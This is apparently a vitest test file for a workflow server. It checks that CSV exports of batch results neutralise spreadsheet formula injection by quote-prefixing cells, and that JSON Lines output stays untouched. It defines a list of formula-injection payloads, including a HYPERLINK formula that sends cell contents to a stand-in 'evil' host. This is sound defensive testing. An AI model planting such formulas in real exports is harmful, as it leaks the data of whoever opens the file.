import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createWorkflow, startTestServer, type TestServer } from '../support/assay-server';

/** Echoes its text input into the output, beside a typed number input. */
const ECHO = {
  name: 'Echo',
  inputs: { text: { type: 'string', required: true }, n: { type: 'number', required: true } },
  steps: [{ id: 'echo', type: 'transform', with: { expression: 'input.text' } }],
  output: { echoed: '{{ steps.echo.output }}' },
};

/** No output mapping: the output's keys (the export's column headers) come from the run. */
const KEYED = {
  name: 'Keyed',
  inputs: { text: { type: 'string', required: true } },
  steps: [{ id: 'shape', type: 'transform', with: { expression: '{"@evil": input.text, "fine": 1}' } }],
};

/** Cells a spreadsheet would run as formulas (issue 11, item 5), and one that is plain text. */
const ATTACKS = ['=HYPERLINK("http://evil/?"&A1,"x")', '+1+1', '-2+3', '@SUM(1)', '\t=1', '\r=1', '-2'];

/**
 * CSV injection (issue 11, item 5): batch inputs and outputs that start with a formula character came
 * back verbatim in the CSV export, so opening the file in a spreadsheet ran them. Every such cell is
 * now prefixed with a quote; JSON Lines carries the values exactly.
 */
describe('CSV injection in batch results', () => {
  let server: TestServer;
  let batchId: string;

  async function finishedBatch(workflowId: string, inputs: unknown[]): Promise<string> {
    const created = await server.api('POST', `/v1/workflows/${workflowId}/batches`, { inputs });
    expect(created.status, JSON.stringify(created.body)).toBe(201);
    for (;;) {
      const { body } = await server.api('GET', `/v1/batches/${created.body.data.id}`);
      if (body.data.completedAt) return body.data.id;
      await new Promise((resolve) => setTimeout(resolve, 50));
    }
  }
  const results = async (id: string, format: 'csv' | 'jsonl') =>
    (await fetch(`${server.url}/v1/batches/${id}/results?format=${format}`, { headers: server.headers })).text();

  beforeAll(async () => {
    server = await startTestServer();
    const echo = await createWorkflow(server, ECHO);
    batchId = await finishedBatch(
      echo,
      ATTACKS.map((text, i) => ({ text, n: i % 2 === 0 ? -2 : 3.5 })),
    );
  });
  afterAll(() => server.close());

  it('prefixes every input and output cell that starts with =, +, -, @, tab or carriage return with a quote', async () => {
    const rows = parse(await results(batchId, 'csv'), { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((row) => row.text)).toEqual(ATTACKS.map((attack) => `'${attack}`));
    expect(rows.map((row) => row.echoed)).toEqual(ATTACKS.map((attack) => `'${attack}`));
    expect(rows.every((row) => row.status === 'completed')).toBe(true);
  });

  it('leaves a typed number column alone: a JSON number cannot be a formula', async () => {
    const rows = parse(await results(batchId, 'csv'), { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((row) => row.n)).toEqual(ATTACKS.map((_, i) => (i % 2 === 0 ? '-2' : '3.5')));
  });

  it('keeps the CSV quoting intact: each attack stays one cell, quotes doubled inside the cell', async () => {
    const csv = await results(batchId, 'csv');
    expect(csv).toContain(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
    // In the raw text, no unquoted cell starts with a formula character (numbers aside).
    const unquoted = csv.split(/\r?\n/).flatMap((line) => line.split(','));
    expect(unquoted.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-\d+(\.\d+)?$/.test(cell))).toEqual([]);
  });

  it('neutralises column headers taken from a run output', async () => {
    const keyed = await createWorkflow(server, KEYED);
    const id = await finishedBatch(keyed, [{ text: '=1+1' }]);
    const [header, row] = parse(await results(id, 'csv')) as string[][];
    expect(header).toEqual(['text', "'@evil", 'fine', 'status', 'error', 'runId']);
    expect(row?.slice(0, 3)).toEqual(["'=1+1", "'=1+1", '1']);
  });

  it('returns JSON Lines untouched', async () => {
    const lines = (await results(batchId, 'jsonl'))
      .trimEnd()
      .split('\n')
      .map((line) => JSON.parse(line));
    expect(lines.map((line) => line.text)).toEqual(ATTACKS);
    expect(lines.map((line) => line.echoed)).toEqual(ATTACKS);
    expect(lines.map((line) => line.n)).toEqual(ATTACKS.map((_, i) => (i % 2 === 0 ? -2 : 3.5)));
  });
});
